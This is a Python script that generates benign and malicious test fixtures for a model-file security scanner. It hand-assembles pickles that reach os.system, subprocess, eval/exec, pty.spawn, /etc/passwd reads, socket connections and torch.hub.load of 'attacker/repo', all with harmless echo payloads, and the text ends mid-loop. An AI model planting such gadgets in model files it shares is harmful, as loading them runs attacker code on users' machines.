#!/usr/bin/python3
"""Generate modelgate's committed test fixtures and README examples.

Run with Debian's interpreter (it has torch, numpy, sklearn, joblib, dill,
cloudpickle, py7zr):

    /usr/bin/python3 scripts/make_fixtures.py            # regenerate everything
    /usr/bin/python3 scripts/make_fixtures.py --globals  # list globals of benign fixtures

Outputs:
    test/fixtures/benign/**      real library output that must pass
    test/fixtures/malicious/**   one or more fixtures per THREATS.md P-item
    test/fixtures/manifest.json  the contract the tests read
    examples/                    small demo set for the README

SAFETY: nothing in this script ever unpickles / torch.load()s / np.load()s
(with pickles) / joblib.load()s a malicious fixture.  Every payload is
harmless (`echo modelgate-fixture`, a print, a read of /etc/hostname, ...)
but uses the real callable so the bytes are what an attacker would ship.
The only loads performed are self-checks of *benign* bytes produced by this
script's own zip writer (to prove the writer emits archives PyTorch accepts).
"""

import bz2
import codecs
import collections
import datetime
import decimal
import fractions
import gzip
import io
import json
import lzma
import marshal
import operator
import os
import pickle
import pickletools
import shutil
import struct
import sys
import tarfile
import time
import types
import uuid
import zipfile
import zlib

import numpy as np

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), ".."))
FIX = os.path.join(ROOT, "test", "fixtures")
EX = os.path.join(ROOT, "examples")
CMD = "echo modelgate-fixture"
PYCMD = "__import__('os').system('echo modelgate-fixture')"
FIXED_TIME = 1577836800  # 2020-01-01T00:00:00Z, used for every timestamp we control

MANIFEST = []


# ---------------------------------------------------------------------------
# determinism: freeze the clocks that zipfile / gzip / tarfile consult
# ---------------------------------------------------------------------------
class _FrozenTime:
    def __getattr__(self, name):
        return getattr(time, name)

    @staticmethod
    def time():
        return float(FIXED_TIME)

    @staticmethod
    def localtime(secs=None):
        return time.gmtime(FIXED_TIME)


zipfile.time = _FrozenTime()
gzip.time = _FrozenTime()


# ---------------------------------------------------------------------------
# bookkeeping
# ---------------------------------------------------------------------------
def write(rel, data, expect, threat, mentions=(), note="", layer=None, root=FIX):
    path = os.path.join(root, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    if root is FIX:
        entry = {"file": rel, "expect": expect, "threat": threat,
                 "mentions": list(mentions), "note": note}
        if layer:
            entry["layer"] = layer
        MANIFEST.append(entry)
    return path


def benign(rel, data, note, layer=None):
    return write("benign/" + rel, data, "pass", None, (), note, layer)


def mal(rel, data, threat, mentions, note, layer=None):
    return write("malicious/" + rel, data, "block", threat, mentions, note, layer)


def fixed_mtime(path):
    os.utime(path, (FIXED_TIME, FIXED_TIME))


# ---------------------------------------------------------------------------
# pickle assembly helpers
# ---------------------------------------------------------------------------
class Call:
    """Pickles as REDUCE(fn, args) through the *real* pickler (fn must be importable)."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __call__(self, *a, **k):  # pickle insists the reduce callable is callable
        raise RuntimeError("never called")

    def __reduce__(self):
        return (self.fn, self.args)


class G:
    """A global spelled exactly as given (module, name) -- for the hand assembler."""

    def __init__(self, module, name):
        self.module, self.name = module, name

    def __call__(self, *a):
        return HCall(self, *a)


class HCall:
    """REDUCE of anything (G, HCall, ...) for the hand assembler."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args


class PersId:
    def __init__(self, value):
        self.value = value


class Raw:
    """Raw opcode bytes spliced verbatim by the hand assembler."""

    def __init__(self, data):
        self.data = data


class _Asm(pickle._Pickler):
    def __init__(self, f, protocol, stack_global=None):
        super().__init__(f, protocol)
        self.stack_global = protocol >= 4 if stack_global is None else stack_global

    def persistent_id(self, obj):
        if isinstance(obj, PersId):
            return obj.value
        return None

    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, G):
            self.framer.commit_frame()
            if self.stack_global:
                self.save(obj.module)
                self.save(obj.name)
                self.write(pickle.STACK_GLOBAL)
            else:
                self.write(b"c" + obj.module.encode() + b"\n" + obj.name.encode() + b"\n")
            return
        if isinstance(obj, HCall):
            self.save(obj.fn)
            self.save(tuple(obj.args))
            self.write(pickle.REDUCE)
            return
        if isinstance(obj, Raw):
            self.write(obj.data)
            return
        return super().save(obj, save_persistent_id)


def asm(obj, protocol=2, stack_global=None):
    """Pickle `obj` with the pure-Python pickler, honouring G/HCall/Raw nodes."""
    f = io.BytesIO()
    _Asm(f, protocol, stack_global).dump(obj)
    return f.getvalue()


def spelled(qual, proto):
    """How pickle (fix_imports=True, the default) spells module.name at `proto`."""
    import _compat_pickle as cp
    m, n = qual.rsplit(".", 1)
    if proto < 3:
        if (m, n) in cp.REVERSE_NAME_MAPPING:
            m, n = cp.REVERSE_NAME_MAPPING[(m, n)]
        elif m in cp.REVERSE_IMPORT_MAPPING:
            m = cp.REVERSE_IMPORT_MAPPING[m]
    return m + "." + n


def dumps(obj, protocol):
    return pickle.dumps(obj, protocol=protocol)


# raw opcode helpers
def op_global(m, n):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def sbu(s):
    b = s.encode() if isinstance(s, str) else s
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def p0str(s):
    return b"S" + repr(s).encode() + b"\n"


PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
TUPLE1, TUPLE2, REDUCE, STOP, POP, MARK = b"\x85", b"\x86", b"R", b".", b"0", b"("
STACK_GLOBAL, MEMOIZE, BUILD, EMPTY_DICT, EMPTY_TUPLE = b"\x93", b"\x94", b"b", b"}", b")"


def payload_ops(module="posix", name="system", arg=CMD):
    """GLOBAL module name + BINUNICODE arg + TUPLE1 + REDUCE (leaves result on stack)."""
    return op_global(module, name) + bu(arg) + TUPLE1 + REDUCE


def simple_mal(module="posix", name="system", arg=CMD):
    return PROTO2 + payload_ops(module, name, arg) + STOP


def pickle_spans(data):
    """Yield (start, end) of consecutive pickles at the start of `data` (genops, never loads)."""
    pos = 0
    out = []
    while pos < len(data):
        try:
            end = None
            for op, arg, p in pickletools.genops(io.BytesIO(data[pos:])):
                if op.name == "STOP":
                    end = pos + p + 1
                    break
        except Exception:
            break
        if end is None:
            break
        out.append((pos, end))
        pos = end
    return out


def splice_after_proto(pkl, inject):
    """Insert opcodes right after PROTO (and FRAME, if any)."""
    assert pkl[0] == 0x80
    i = 2
    if pkl[i:i + 1] == b"\x95":
        raise ValueError("framed pickle; not supported here")
    return pkl[:i] + inject + pkl[i:]


def splice_before_stop(pkl, inject):
    assert pkl.endswith(STOP)
    return pkl[:-1] + inject + STOP


# ---------------------------------------------------------------------------
# zip writer (full control over every byte)
# ---------------------------------------------------------------------------
def zip_build(entries, base=0, align=64, comment=b"", prefix=b""):
    """entries: dicts with keys
         name            central-directory name (str)
         data            member bytes (uncompressed)
         local_name      name in the local header (default: name)
         flags           general purpose bits (local and central)
         cflags          central flags override
         method          0 stored / 8 deflate
         crc             CRC override (both headers)
         descriptor      write sizes/crc in a data descriptor like PyTorch (bit 3)
       base: offset of the archive inside the final file (for polyglots).
       prefix: bytes placed before the archive (offsets are adjusted for them).
    """
    out = bytearray(prefix)
    base += len(prefix)
    central = bytearray()
    dostime, dosdate = 0, (0 << 9) | (1 << 5) | 1  # 1980-01-01 00:00 like PyTorch's writer
    for e in entries:
        name = e["name"].encode()
        lname = e.get("local_name", e["name"]).encode()
        data = e["data"]
        method = e.get("method", 0)
        comp = data
        if method == 8:
            co = zlib.compressobj(9, zlib.DEFLATED, -15)
            comp = co.compress(data) + co.flush()
        crc = e.get("crc", zlib.crc32(data) & 0xFFFFFFFF)
        desc = e.get("descriptor", False)
        flags = e.get("flags", 0) | (0x08 if desc else 0)
        cflags = e.get("cflags", flags)
        offset = base + len(out) - len(prefix)
        hdr_len = 30 + len(lname)
        extra = b""
        if align:
            pad = (-(base + len(out) - len(prefix) + hdr_len + 4)) % align
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        lcrc, lcs, lus = (0, 0, 0) if desc else (crc, len(comp), len(data))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, dostime, dosdate,
                           lcrc, lcs, lus, len(lname), len(extra))
        out += lname + extra + comp
        if desc:
            out += struct.pack("<IIII", 0x08074B50, crc, len(comp), len(data))
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, cflags, method,
                               dostime, dosdate, crc, len(comp), len(data), len(name), 0, 0,
                               0, 0, 0o100644 << 16, offset)
        central += name
    cd_off = base + len(out) - len(prefix)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central),
                       cd_off, len(comment)) + comment
    return bytes(out)


def zip_members(data):
    """Read a (well-formed) zip produced by a real library: [(name, bytes)] in order."""
    z = zipfile.ZipFile(io.BytesIO(data))
    return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def torch_zip_rewrite(data, replace=None, extra=(), drop=(), **entry_opts):
    """Re-emit a torch zip with our writer. replace: {suffix: new_bytes or fn(old)->new}."""
    replace = replace or {}
    entries = []
    for name, body in zip_members(data):
        if any(name.endswith(s) for s in drop):
            continue
        for suffix, new in replace.items():
            if name.endswith(suffix):
                body = new(body) if callable(new) else new
        entries.append({"name": name, "data": body, "descriptor": True})
    entries.extend(extra)
    return zip_build(entries, **entry_opts)


def tar_bytes(members, compression=""):
    f = io.BytesIO()
    with tarfile.open(fileobj=f, mode="w:" + compression, format=tarfile.USTAR_FORMAT) as t:
        for name, body in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(body)
            ti.mtime = FIXED_TIME
            ti.mode = 0o644
            ti.uname = ti.gname = "modelgate"
            t.addfile(ti, io.BytesIO(body))
    return f.getvalue()


def sevenzip_bytes(members):
    import py7zr
    tmpdir = os.path.join(ROOT, ".fixture-tmp-7z")
    shutil.rmtree(tmpdir, ignore_errors=True)
    os.makedirs(tmpdir)
    try:
        out = os.path.join(tmpdir, "out.7z")
        with py7zr.SevenZipFile(out, "w") as z:
            for name, body in members:
                p = os.path.join(tmpdir, "src", name)
                os.makedirs(os.path.dirname(p), exist_ok=True)
                with open(p, "wb") as f:
                    f.write(body)
                fixed_mtime(p)
                z.write(p, name)
        with open(out, "rb") as f:
            return f.read()
    finally:
        shutil.rmtree(tmpdir, ignore_errors=True)


def lzma_alone(data):
    return lzma.compress(data, format=lzma.FORMAT_ALONE)


def npy_header(descr, shape, fortran=False):
    d = "{'descr': %r, 'fortran_order': %s, 'shape': %r, }" % (descr, fortran, shape)
    h = d.encode("latin1")
    pad = 64 - ((10 + len(h) + 1) % 64)
    h += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h


_STORAGE_ITEMSIZE = {"FloatStorage": 4, "DoubleStorage": 8, "HalfStorage": 2, "BFloat16Storage": 2,
                     "LongStorage": 8, "IntStorage": 4, "ShortStorage": 2, "CharStorage": 1,
                     "ByteStorage": 1, "BoolStorage": 1}


def _legacy_stable_keys(data):
    """Legacy torch.save names storages by memory address (str(storage._cdata)) and
    writes them sorted by that name.  Rename them '0', '1', ... in order of first
    use in the object pickle and re-order the raw storages to match, so the output
    is reproducible.  Pure byte surgery; nothing is unpickled."""
    spans = pickle_spans(data)
    assert len(spans) == 5
    obj_s, obj_e = spans[3]
    keys_s, keys_e = spans[4]
    order, itemsize, last_global = [], {}, None
    for op, arg, _ in pickletools.genops(io.BytesIO(data[obj_s:obj_e])):
        if op.name == "GLOBAL":
            last_global = arg.split(" ")[1]
        elif op.name == "BINUNICODE" and last_global in _STORAGE_ITEMSIZE and arg.isdigit():
            if arg not in itemsize:
                itemsize[arg] = _STORAGE_ITEMSIZE[last_global]
                order.append(arg)
    listed = [arg for op, arg, _ in pickletools.genops(io.BytesIO(data[keys_s:keys_e])) if op.name == "BINUNICODE"]
    assert sorted(listed) == sorted(order), (listed, order)
    blobs, pos = {}, keys_e
    for k in listed:
        numel = struct.unpack("<q", data[pos:pos + 8])[0]
        n = 8 + numel * itemsize[k]
        blobs[k] = data[pos:pos + n]
        pos += n
    assert pos == len(data)
    rename = {k: str(i) for i, k in enumerate(order)}
    head = data[:keys_s]
    for k, v in rename.items():
        kb = k.encode()
        head = head.replace(b"X" + struct.pack("<I", len(kb)) + kb, bu(v))
    keys_pkl = pickle.dumps([rename[k] for k in order], protocol=2)
    out = head + keys_pkl + b"".join(blobs[k] for k in order)
    assert len(pickle_spans(out)) == 5
    return out


# ---------------------------------------------------------------------------
# BENIGN
# ---------------------------------------------------------------------------
def gen_benign():
    import torch
    import torch.nn as nn
    torch.manual_seed(0)
    np.random.seed(0)

    def tsave(obj, **kw):
        b = io.BytesIO()
        torch.save(obj, b, **kw)
        data = b.getvalue()
        if kw.get("_use_new_zipfile_serialization") is False:
            data = _legacy_stable_keys(data)
        return data

    # --- state dicts in many dtypes
    base = nn.Linear(4, 3)
    sd32 = base.state_dict()
    dtypes = {
        "fp32": torch.float32, "fp16": torch.float16, "bf16": torch.bfloat16,
        "float64": torch.float64,
    }
    for tag, dt in dtypes.items():
        sd = collections.OrderedDict((k, v.to(dt)) for k, v in sd32.items())
        benign("torch_state_dict_%s.pt" % tag, tsave(sd), "torch.save of a Linear(4,3) state dict, %s" % dt)
    ints = {
        "int8": torch.arange(-6, 6, dtype=torch.int8).reshape(3, 4),
        "int64": torch.arange(12, dtype=torch.int64).reshape(3, 4),
        "uint8": torch.arange(12, dtype=torch.uint8).reshape(3, 4),
        "bool": torch.arange(12).reshape(3, 4) % 2 == 0,
    }
    for tag, t in ints.items():
        sd = collections.OrderedDict([("weight", t), ("bias", t[0].clone())])
        benign("torch_state_dict_%s.pt" % tag, tsave(sd), "torch.save state dict of %s tensors" % t.dtype)

    q = torch.quantize_per_tensor(torch.linspace(-1, 1, 8), 0.1, 10, torch.quint8)
    qc = torch.quantize_per_channel(torch.linspace(-1, 1, 8).reshape(2, 4), torch.tensor([0.1, 0.2]),
                                    torch.tensor([0, 1]), 0, torch.qint8)
    benign("torch_quantized.pt", tsave({"q_per_tensor": q, "q_per_channel": qc}),
           "quantize_per_tensor (quint8) and quantize_per_channel (qint8) tensors")
    sp = torch.sparse_coo_tensor(torch.tensor([[0, 1, 2], [2, 0, 1]]), torch.tensor([1.0, 2.0, 3.0]), (3, 3))
    benign("torch_sparse_coo.pt", tsave({"sparse": sp}), "sparse COO tensor")

    # --- training checkpoint with Adam state
    model = nn.Sequential(nn.Linear(4, 4), nn.ReLU(), nn.Linear(4, 2))
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    loss = model(torch.randn(3, 4)).pow(2).mean()
    loss.backward()
    opt.step()
    ckpt = {"model_state_dict": model.state_dict(), "optimizer_state_dict": opt.state_dict(),
            "epoch": 3, "loss": float(loss.item())}
    benign("torch_checkpoint_adam.pt", tsave(ckpt), "training checkpoint: model + Adam optimizer state, epoch, loss")

    # --- whole module of built-in layers
    whole = nn.Sequential(nn.Linear(4, 4), nn.ReLU(), nn.Conv2d(1, 2, 3), nn.BatchNorm2d(2),
                          nn.LayerNorm(4), nn.Dropout(0.1), nn.Embedding(5, 3), nn.LSTM(3, 2))
    benign("torch_whole_module.pt", tsave(whole),
           "torch.save(model) of an nn.Sequential of built-in layers (Linear, ReLU, Conv2d, BatchNorm2d, LayerNorm, Dropout, Embedding, LSTM)")

    # --- Lightning-style checkpoint
    lightning = {
        "epoch": 1, "global_step": 10, "pytorch-lightning_version": "1.9.0",
        "state_dict": collections.OrderedDict(("model." + k, v) for k, v in model.state_dict().items()),
        "optimizer_states": [opt.state_dict()], "lr_schedulers": [], "callbacks": {},
        "hyper_parameters": {"lr": 0.001, "hidden": 4, "name": "tiny"},
    }
    benign("lightning_style.ckpt", tsave(lightning), "PyTorch Lightning-style .ckpt dict saved with torch.save")

    # --- legacy (non-zip) format, with a view sharing storage
    big = torch.arange(16, dtype=torch.float32)
    legacy_sd = collections.OrderedDict([("full", big), ("view", big[4:12].view(2, 4)), ("other", torch.ones(3, dtype=torch.int64))])
    legacy = tsave(legacy_sd, _use_new_zipfile_serialization=False)
    benign("torch_legacy_format.pt", legacy, "legacy non-zip torch.save (magic pickle, protocol, sys_info, object, storage keys, raw storages); includes a view sharing a storage")

    # --- TorchScript
    scripted = torch.jit.script(nn.Sequential(nn.Linear(4, 2), nn.ReLU()))
    b = io.BytesIO()
    torch.jit.save(scripted, b)
    ts = b.getvalue()
    benign("torchscript_module.pt", ts, "torch.jit.script of Sequential(Linear, ReLU), saved with torch.jit.save (carries code/: low finding only)")

    benign("torch_state_dict_pickle_proto4.pt", tsave(sd32, pickle_protocol=4),
           "torch.save(pickle_protocol=4): data.pkl uses FRAME/STACK_GLOBAL/MEMOIZE")
    benign("torch_nested_checkpoint.pth", tsave({"config": {"layers": [4, 3], "act": "relu", "dropout": 0.1, "tied": False},
                                                 "models": [sd32, sd32], "step": 100, "best": None, "tags": ("a", "b")}),
           "torch.save of nested containers sharing tensors (two references to the same state dict)")
    # --- HF-style name, paddle-style pickle
    benign("pytorch_model.bin", tsave(sd32), "Hugging Face style pytorch_model.bin (torch zip)")
    pd = collections.OrderedDict([("linear_0.w_0", np.random.rand(4, 3).astype("float32")),
                                  ("linear_0.b_0", np.zeros(3, dtype="float32"))])
    benign("model.pdparams", pickle.dumps(dict(pd), protocol=2), "PaddlePaddle-style .pdparams: pickle protocol 2 of a dict of numpy arrays")

    # --- self-check of our zip writer: rewriting a benign torch zip must still load in torch
    rewritten = torch_zip_rewrite(tsave(sd32))
    loaded = torch.load(io.BytesIO(rewritten))  # benign bytes produced by us
    assert all(torch.equal(loaded[k], sd32[k]) for k in sd32)
    benign("torch_state_dict_rewritten.pt", rewritten, "benign state dict re-emitted by make_fixtures' own zip writer (self-check: torch.load accepts it)")

    # --- numpy
    def npsave(arr, **kw):
        b = io.BytesIO()
        np.save(b, arr, **kw)
        return b.getvalue()

    benign("numpy_float32.npy", npsave(np.linspace(0, 1, 12, dtype=np.float32).reshape(3, 4)), "np.save float32")
    for ver in ((2, 0), (3, 0)):
        b = io.BytesIO()
        np.lib.format.write_array(b, np.arange(6, dtype=np.float32), version=ver)
        benign("numpy_header_v%d.npy" % ver[0], b.getvalue(), "np.lib.format.write_array version %d.0 header (4-byte header length)" % ver[0])
    benign("numpy_int64.npy", npsave(np.arange(10, dtype=np.int64)), "np.save int64")
    st = np.array([(1, 2.5, b"ab"), (2, 3.5, b"cd")], dtype=[("id", "<i4"), ("x", "<f8"), ("tag", "S2")])
    benign("numpy_structured.npy", npsave(st), "np.save structured dtype")
    benign("numpy_fortran.npy", npsave(np.asfortranarray(np.arange(12, dtype=np.float64).reshape(3, 4))), "np.save Fortran-order array")
    b = io.BytesIO()
    np.savez(b, a=np.arange(5), b=np.ones((2, 2), dtype=np.float32))
    benign("numpy_savez.npz", b.getvalue(), "np.savez (zip of .npy)")
    b = io.BytesIO()
    np.savez_compressed(b, a=np.arange(5), b=np.ones((2, 2), dtype=np.float32))
    benign("numpy_savez_compressed.npz", b.getvalue(), "np.savez_compressed (deflated zip of .npy)")
    objarr = np.empty(4, dtype=object)
    objarr[:] = [1, "two", [3, 4], {"five": 5}]
    benign("numpy_object_plain.npy", npsave(objarr, allow_pickle=True),
           "np.save dtype=object holding plain values only: embedded pickle, expected LOW finding only", layer="npy>pickle")

    # --- scikit-learn
    import joblib
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    rng = np.random.RandomState(0)
    X = rng.rand(20, 3)
    y = (X[:, 0] > 0.5).astype(int)
    Xc = np.c_[X[:, :2], rng.randint(0, 3, 20)]
    models = {
        "logreg": LogisticRegression().fit(X, y),
        "rf": RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0).fit(X, y),
        "scaler_svc": Pipeline([("scale", StandardScaler()), ("svc", SVC())]).fit(X, y),
        "columntransformer": Pipeline([
            ("ct", ColumnTransformer([("num", StandardScaler(), [0, 1]),
                                      ("cat", OneHotEncoder(handle_unknown="ignore"), [2])])),
            ("clf", LogisticRegression())]).fit(Xc, y),
    }
    for tag, m in models.items():
        for proto in (2, 4, 5):
            benign("sklearn_%s_proto%d.pkl" % (tag, proto), pickle.dumps(m, protocol=proto),
                   "scikit-learn %s via pickle.dump protocol %d" % (tag, proto))
        for comp in (None, "zlib", "gzip", "bz2", "lzma", "xz"):
            path = os.path.join(FIX, "benign", "sklearn_%s%s.joblib" % (tag, "" if comp is None else "_" + comp))
            os.makedirs(os.path.dirname(path), exist_ok=True)
            joblib.dump(m, path, compress=(comp, 3) if comp else 0)
            with open(path, "rb") as f:
                data = f.read()
            benign(os.path.relpath(path, os.path.join(FIX, "benign")), data,
                   "scikit-learn %s via joblib.dump %s" % (tag, "uncompressed (raw array bytes inside the pickle stream)" if comp is None else "compress=(%r, 3)" % comp),
                   layer=None if comp is None else "%s>joblib-pickle" % comp)

    path = os.path.join(FIX, "benign", "joblib_numpy_arrays.joblib")
    joblib.dump({"w": np.arange(12, dtype=np.float32).reshape(3, 4), "b": np.zeros(3), "ids": np.arange(5, dtype=np.int16),
                 "f": np.asfortranarray(np.ones((2, 3))), "name": "arrays"}, path)
    with open(path, "rb") as f:
        benign("joblib_numpy_arrays.joblib", f.read(), "joblib.dump of a dict of numpy arrays (several dtypes, one Fortran-order)")

    # --- plain python containers in every protocol
    values = {
        "dict": {"a": 1, "b": [1, 2, 3], "c": (4, 5), "nested": {"x": None}},
        "list": [1, 2.5, "three", b"four", None, True, False],
        "tuple": (1, (2, (3,))),
        "set": {1, 2, 3}, "frozenset": frozenset({"a", "b"}),
        "ordered": collections.OrderedDict([("z", 1), ("y", 2)]),
        "defaultdict": collections.defaultdict(list, {"k": [1]}),
        "counter": collections.Counter("abracadabra"),
        "deque": collections.deque([1, 2, 3], maxlen=5),
        "datetime": datetime.datetime(2020, 1, 2, 3, 4, 5, 6),
        "date": datetime.date(2020, 1, 2), "timedelta": datetime.timedelta(days=1, seconds=2),
        "decimal": decimal.Decimal("3.14159"), "fraction": fractions.Fraction(22, 7),
        "uuid": uuid.UUID("12345678-1234-5678-1234-567812345678"),
        "complex": complex(1, -2), "bytes": b"\x00\x01binary", "bytearray": bytearray(b"mutable"),
        "bigint": 2 ** 200 + 12345, "negbig": -(2 ** 70), "float": 1.5e-300, "none": None, "t": True, "f": False,
        "str": "unicode \u00e9\u4e2d",
    }
    for proto in range(6):
        benign("python_containers_proto%d.pkl" % proto, pickle.dumps(values, protocol=proto),
               "plain Python containers and value types (OrderedDict, defaultdict, Counter, deque, datetime, Decimal, Fraction, UUID, complex, bytearray, ...), protocol %d" % proto)

    # --- compressed / archived benign pickles
    plain = pickle.dumps({"weights": [0.1, 0.2, 0.3], "name": "tiny", "shape": (3,)}, protocol=4)
    benign("compressed_plain.pkl.gz", gzip.compress(plain, mtime=0), "gzip of a plain pickle", layer="gzip>pickle")
    benign("compressed_plain.pkl.bz2", bz2.compress(plain), "bz2 of a plain pickle", layer="bz2>pickle")
    benign("compressed_plain.pkl.xz", lzma.compress(plain), "xz of a plain pickle", layer="xz>pickle")
    benign("compressed_plain.lzma", lzma_alone(plain), "raw lzma (FORMAT_ALONE) of a plain pickle", layer="lzma>pickle")
    benign("compressed_plain.pkl.zlib", zlib.compress(plain), "zlib.compress of a plain pickle", layer="zlib>pickle")
    benign("archive_plain.tar", tar_bytes([("model/weights.pkl", plain), ("model/config.json", b'{"hidden": 4}\n')]),
           "tar holding a plain pickle and a json", layer="tar>pickle")
    benign("archive_state_dict.7z", sevenzip_bytes([("model.pt", tsave(sd32))]),
           "7z (py7zr) holding a benign torch state dict", layer="7z>zip>pickle")

    # --- dill / cloudpickle of plain data
    import cloudpickle
    import dill
    plaind = {"a": 1, "b": 2.5, "c": "text", "d": [1, 2, {"e": None}]}
    benign("dill_plain.pkl", dill.dumps(plaind), "dill.dumps of plain data (no functions)")
    benign("dill_plain_proto2.pkl", dill.dumps(plaind, protocol=2), "dill.dumps(protocol=2) of plain data")
    benign("cloudpickle_plain.pkl", cloudpickle.dumps(plaind), "cloudpickle.dumps of plain data (no functions)")
    return {"sd32": sd32, "tsave": tsave, "ts": ts, "legacy": legacy}


# ---------------------------------------------------------------------------
# MALICIOUS
# ---------------------------------------------------------------------------
def gen_malicious(ctx):
    import subprocess
    import pty
    import runpy
    import builtins
    import torch
    import functools
    import importlib
    tsave = ctx["tsave"]
    sd32 = ctx["sd32"]

    # ---------------- P1: direct dangerous callables
    p1 = [
        ("posix_system", Call(os.system, CMD), ["posix.system"]),
        ("subprocess_popen", Call(subprocess.Popen, ["echo", "modelgate-fixture"]), ["subprocess.Popen"]),
        ("subprocess_check_output", Call(subprocess.check_output, ["echo", "modelgate-fixture"]), ["subprocess.check_output"]),
        ("subprocess_run", Call(subprocess.run, ["echo", "modelgate-fixture"]), ["subprocess.run"]),
        ("builtins_eval", Call(builtins.eval, PYCMD), ["builtins.eval"]),
        ("builtins_exec", Call(builtins.exec, PYCMD), ["builtins.exec"]),
        ("builtins_compile", Call(builtins.compile, PYCMD, "<fixture>", "exec"), ["builtins.compile"]),
        ("builtins_import", Call(builtins.__import__, "os"), ["builtins.__import__"]),
        ("builtins_open", Call(builtins.open, "/etc/hostname"), ["io.open"]),
        ("pty_spawn", Call(pty.spawn, ["echo", "modelgate-fixture"]), ["pty.spawn"]),
        ("runpy_run_code", Call(runpy._run_code, "print('modelgate-fixture')", {}), ["runpy._run_code"]),
        ("os_execv", Call(os.execv, "/bin/echo", ["echo", "modelgate-fixture"]), ["posix.execv"]),
        ("os_popen", Call(os.popen, CMD), ["os.popen"]),
    ]
    for tag, obj, mentions in p1:
        for proto in (0, 2, 4):
            data = dumps(obj, proto)
            ms = [spelled(m, proto) for m in mentions]
            mal("p01_%s_proto%d.pkl" % (tag, proto), data, "P1", ms,
                "%s via __reduce__, pickle protocol %d%s" % (mentions[0], proto,
                 " (spelled %s: protocol<3 applies the py2 name mapping)" % ms[0] if ms[0] != mentions[0] else ""))
    getattr_chain = Call(Call(builtins.getattr, Call(builtins.__import__, "os"), "system"), CMD)
    for proto in (0, 2, 4):
        ms = [spelled(m, proto) for m in ("builtins.getattr", "builtins.__import__")]
        mal("p01_builtins_getattr_proto%d.pkl" % proto, dumps(getattr_chain, proto), "P1", ms,
            "getattr(__import__('os'), 'system')('echo ...'), protocol %d" % proto)
    mal("p01_py2_builtin_eval.pkl", simple_mal("__builtin__", "eval", PYCMD), "P1", ["__builtin__.eval"],
        "hand-assembled py2-style GLOBAL '__builtin__ eval'")
    mal("p01_builtins_open_spelled_builtins.pkl", simple_mal("builtins", "open", "/etc/passwd"), "P1", ["builtins.open"], "hand-assembled GLOBAL 'builtins open'")
    mal("p01_nt_system.pkl", simple_mal("nt", "system"), "P1", ["nt.system"], "hand-assembled GLOBAL 'nt system' (os.system as pickled on Windows)")
    mal("p01_os_system_spelled_os.pkl", simple_mal("os", "system"), "P1", ["os.system"], "hand-assembled GLOBAL 'os system'")
    mal("p01_posix_system_proto0_text.pkl",
        b"cposix\nsystem\n(" + p0str(CMD) + b"tR.", "P1", ["posix.system"], "protocol 0 text-only pickle (MARK/STRING/TUPLE)")
    mal("p01_builtins_exec_fix_imports_off_proto2.pkl", pickle.dumps(Call(builtins.exec, PYCMD), protocol=2, fix_imports=False),
        "P1", ["builtins.exec"], "protocol 2 with fix_imports=False: spelled builtins.exec")

    # ---------------- P2: gadgets not on typical denylists
    import pydoc, timeit, code, ctypes, webbrowser, socket, smtplib, asyncio, urllib.request, tempfile, zipimport, shelve, glob
    p2 = [
        ("pydoc_pipepager", Call(pydoc.pipepager, "text", CMD), ["pydoc.pipepager"]),
        ("timeit_timeit", Call(timeit.timeit, PYCMD, "pass", None, 1), ["timeit.timeit"]),
        ("code_interactive_runsource",
         Call(Call(builtins.getattr, Call(code.InteractiveInterpreter), "runsource"), PYCMD),
         ["code.InteractiveInterpreter", "builtins.getattr"]),
        ("ctypes_cdll", Call(ctypes.CDLL, "libc.so.6"), ["ctypes.CDLL"]),
        ("shutil_rmtree", Call(shutil.rmtree, "/tmp/modelgate-fixture-does-not-exist"), ["shutil.rmtree"]),
        ("webbrowser_open", Call(webbrowser.open, "http://127.0.0.1:9/modelgate-fixture"), ["webbrowser.open"]),
        ("socket_create_connection", Call(socket.create_connection, ("127.0.0.1", 9)), ["socket.create_connection"]),
        ("urllib_urlopen", Call(urllib.request.urlopen, "http://127.0.0.1:9/modelgate-fixture"), ["urllib.request.urlopen"]),
        ("smtplib_smtp", Call(smtplib.SMTP, "127.0.0.1", 9), ["smtplib.SMTP"]),
        ("asyncio_create_subprocess_shell", Call(asyncio.create_subprocess_shell, CMD), ["asyncio.subprocess.create_subprocess_shell"]),
        ("operator_methodcaller", Call(Call(operator.methodcaller, "system", CMD), Call(builtins.__import__, "os")),
         ["operator.methodcaller", "builtins.__import__"]),
        ("functools_partial_system", Call(functools.partial(os.system, CMD)), ["functools.partial", "posix.system"]),
        ("torch_hub_load", Call(torch.hub.load, "attacker/repo", "model"), ["torch.hub.load"]),
        ("tempfile_mkdtemp", Call(tempfile.mkdtemp), ["tempfile.mkdtemp"]),
        ("glob_glob", Call(glob.glob, "/etc/*"), ["glob.glob"]),
        ("shelve_open", Call(shelve.open, "/tmp/modelgate-fixture-shelf"), ["shelve.open"]),
        ("zipimport_zipimporter", Call(zipimport.zipimporter, "/tmp/modelgate-fixture.zip"), ["zipimport.zipimporter"]),
        ("os_remove", Call(os.remove, "/tmp/modelgate-fixture-does-not-exist"), ["posix.remove"]),
        ("io_open_write", Call(io.open, "/tmp/modelgate-fixture", "w"), ["io.open"]),
    ]
    for tag, obj, mentions in p2:
